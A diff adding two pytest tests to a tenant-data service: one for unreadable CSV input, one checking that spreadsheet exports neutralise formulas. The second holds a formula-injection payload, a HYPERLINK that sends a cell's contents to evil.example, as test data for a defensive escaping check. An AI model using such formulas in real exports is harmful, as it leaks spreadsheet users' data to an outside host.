@@ -262,3 +262,16 @@ def test_the_hms_api_and_the_import_store_the_same_way(live_app, frozen):
         key = api_keys.create_key(session, "Reporting", ["hms_read"])
     answer = live_app.test_client().get("/api/v1/hms/tenants/T-2", headers={"Authorization": f"Bearer {key}"})
     assert answer.get_json()["language"] == "cy" and answer.get_json()["phone"] == "+447700900102"
+
+
+def test_a_file_with_an_unclosed_quote_or_a_stray_carriage_return_says_where():
+    with pytest.raises(csv_import.FileProblem, match="cannot be read as CSV"):
+        csv_import.read_rows("tenants", "tenant_reference,name,phone\nT-1,A\rB,07700 900123\n")
+
+
+def test_spreadsheet_exports_keep_formulas_as_text():
+    from service.spreadsheets import csv_text
+
+    text = csv_text(["said"], [['=HYPERLINK("http://evil.example/?x="&A1,"click")'], ["-1"], ["fine"]])
+    assert text.splitlines()[1].startswith("\"'=HYPERLINK")
+    assert text.splitlines()[2:] == ["'-1", "fine"]
